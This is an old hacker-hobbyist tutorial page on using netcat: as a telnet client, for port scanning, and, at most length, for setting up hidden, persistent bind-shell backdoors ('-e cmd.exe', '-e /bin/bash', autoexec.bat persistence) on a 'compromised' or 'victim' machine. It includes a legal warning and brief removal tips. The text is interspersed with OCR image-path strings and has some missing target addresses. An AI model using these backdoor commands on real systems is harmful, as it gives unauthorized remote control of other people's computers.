What's New!

Chat with

How to Defend
Your Computer

The Guides
to (mostly)
Harmless Hacking

Happy Hacker
Digests (old stuff)

Hacker Links


Meet the
Happy Hacksters

Help for



It Sucks
to Be Me!

How to Commit
Computer Crime (not)!

What Is a
Hacker, Anyhow?

Have a
Great Life!

News from the
Hacker War Front

GUIDE to (mostly) Harmless Hacking:HOW TO USE NETCAT
By Steven (Dist0rted) Welch
with help from

Click here for a fun addition to this guide!--->>

If you haven't ever used netcat before, you're missing out on one of the greatest programs I've ever used for hacking. So just what is it? It's basically a buffed up version of telnet that has many options that allow it to do many things - at which I'll try to cover in this article. Even better, it runs on Windows and Unix! Where can you get it? It was developed by the l0pht, which is now @stake (http://www.atstake.com/), so you can get it there. There are also countless other sites out there that have netcat for download.

But before you read this guide, you should probably already know how to use telnet and write batch files, both of which can be located on the main GTMHH page. (Speaking of which, it's just best to read all of the GTMHH first.)So, first off lets show netcat as a telnet client. Heres how netcat works:

NOTE: From here on I'm assuming that Windows is installed onto drive C:. If it's something else like Z: then just change accordingly.

Obviously you're going to first download and install netcat. For Windows, get the right version and unzip it to whatever directory you like. Just make sure that you copy the nc.exe file to the C:\WINDOWS\System32 or C:\WINNT\System32 directory when on Windows NT/2000/XP. For 95/98/ME, copy it to C:\WINDOWS.

On UNIX, you'll need to get the appropriate version, unpack it, and then view the readme for install instructions.

Open up the command prompt for your system. For Windows, this will mean Start -> Programs -> Accessories -> MS-DOS Prompt or Start -> Programs -> MS-DOS Prompt or Start -> All Programs -> Accessories -> Command Prompt. For UNIX, you should already know how to get to it.

Now type the following command and hit the ENTER key:

nc <target> <port>

Here's how this will work:

nc - runs netcat
<target> - what IP or hostname to connect to
<port> - port to connect to on the IP or hostname

Heres an example:nc 23

That would connect to on port number 23.

It's just like using telnet but has many more features that I'll now cover.

Next, I'll discuss one of my favorite parts of the program: it allows you to set up backdoor ports on a compromised system. This is way easier than programming backdoors using sockets, and easier than editing inetd.conf entries. So how do you do it? Let's cover Windows NT/2000/XP first.

Get a copy of the nc.exe file onto the target C:\WINDOWS\System32\ directory and run the command "nc -L -d -p 2003 -t -e cmd.exe" (without the quotes). What did this do? It set up a backdoor that would open up a MS-DOS shell when connected to atport 2003. (So if you were to telnet to the victem's computer on port 2003, you would get a command prompt from which you have total control over the system.)

You can go to jail warning: Before you folks start emailing Steven Welch, pavethetrees or Carolyn Meinel asking "But HOW do I get the nc.exe file onto the victim computer?" take a deep breath. If you own the "victim" computer, fine, just install it! If it belongs to your boyfriend/girlfriend/friend/enemy/teacher, then you have to get permission to install it. If you don't have permission, you can go to jail! This Guide is so you can have fun using netcat LEGALLY, comprende?

How did it work? Here:

nc - ran netcat
-L - tells netcat to stay open and listen (set up a backdoor)
-d - tells netcat to detach (don't open up a window on the victem's computer when listening)
-p 2003 - tells netcat when listening to listen to port 2003 (you could change 2003 to whatever other port you choose)
-t - tells netcat to accept telnet connections-e cmd.exe - tells netcat to open up cmd.exe (the MS-DOS shell) when connected to

How about Windows 95/98/ME? Do the exact same thing as you did with NT/2000/XP, exept just put the nc.exe file onto the C:\WINDOWS\ directory, and when you run the command, change the end to "-e command.com" instead of "-e cmd.exe" so that you'll run the 95/98/ME MS-DOS shell.

In case you haven't noticed, if the target reboots the computer then the backdoor won't be running anymore. How can we fix this? Open up the file C:\autoexec.bat in a text editor by typing the command "edit \autoexec.bat" in your backdoor and add to the end of the file the command that you want to run when the computer starts ("nc -L -d -p 2003 -t -e cmd.exe" or whatever it is). Then save and exit.

Alright, we've got the backdoor working on Windows, but what about Unix? Install netcat on the target system (even though most systems come pre-installed with it). Then run the command "nc -nvv -l -p 2003 -e /bin/bash". If you ran the backdoor on Windows, then you should pretty well know how this works, but anyway:

nc - runs the netcat program
-nvv - the n part says to not do a host lookup (kinda advanced but kinda not...) and the vv says to do double verbose (output as much information as possible) while a single v says to do just a normal verbose (just output a little more information)
-l - tells netcat to stay open and listen
-p 2003 - tells netcat when listening to listen to port 2003 (you could change 2003 to whatever other port you choose)
-e /bin/bash - tells netcat to open up /bin/bash (one of the many Unix shells) when connected to (you could also choose /bin/sh, /bin/tcsh, etc. if you wish)

You may say, "When I run the command it just says command not recognized!" This is most likely because the directory you installed netcat to is not in the system path. Youhave three options: install netcat to a directory like /usr/local which is in the system path, set the system path to also include the directory that you installed netcat to, or just "cd" to the directory that you installed netcat to and include a "./" in front of the netcat command ("./nc -nvv -l -p 2003 -e /bin/bash").

Also, on some Unix systems the rpm version of netcat won't let you use the "-e"option - so you can't use backdoors with that. What you need to do is install the .tar.gz or .tgz version of netcat that will allow you to use "-e".

So now that you're having fun and impressing your friends with this new netcat backdoor, you get fustrated when you find out that you've been cracked and you think that the netcat backdoor is running on your system! "How do I get rid of this thing!?" Well, first I'd check C:\autoexec.bat for a netcat entry (or /etc/inetd.conf for Unix). If you find one, delete it and find the program that's running the backdoor. This can be done by simply searching for "nc" or "nc.exe" but most likely the attacker will have changed the filename to something else. In Windows you can CTRL + ALT + DEL and find a suspicious looking process to terminate. Or with Unix you can use the "ps" command to find a program that's running a netcat backdoor. Beyond that just use common sense for techniques that will eliminate the backdoor.

Now that I've gotten done with the backdoor side of netcat, let's discuss port scanning with netcat. Netcat doesnt have any stealth options, but it does a definite connect and after a specific timeout it will disconnect and go to the next port. Heres how it works:

nc -z -w2 1-6000

nc - runs netcat
-z - tells netcat to run a portscan
-w2 - tells netcat the timeafter which to disconnect - here its 2 seconds - the target IP address - this is where you put the target IP or hostname
1-6000 - tells netcat the range of ports to scan - here it was port 1 to 6000If you want, you can add the option -v or -vv to see more of whats going on in netcat.

Heres an example of a portscan:

nc -vv -z -w2 1-6000

Basically, the port scanning is very simple to understand. So, theres no big longexplenation or anything.

Well, this ends my guide to netcat. I hope you learned everything here. Go ahead and play around with netcat - it's my favorite tool that I'veever used (besides of course those lovely network sniffers...). If you ever need help, feel free to e-mail me.Search the GTMHH

Why do we freely give out information that even the total beginner may use as a two-edged sword of cyberspace power? We do this "to turn over to mankind at large the greatest possible power to control the world and deal with it according to its lights and values." -- Robert J. Oppenheimer, head of the Manhattan Project, which created the world's firstnuclear weapons.

Carolyn'smost
popular book,
in 4th edition now!
For advanced
hacker studies,
read Carolyn's
Google Groups
Subscribe to Happy Hacker
Visit this group

Return to the index of Guides to (mostly) Harmless Hacking!

©2013 Happy Hacker All rights reserved.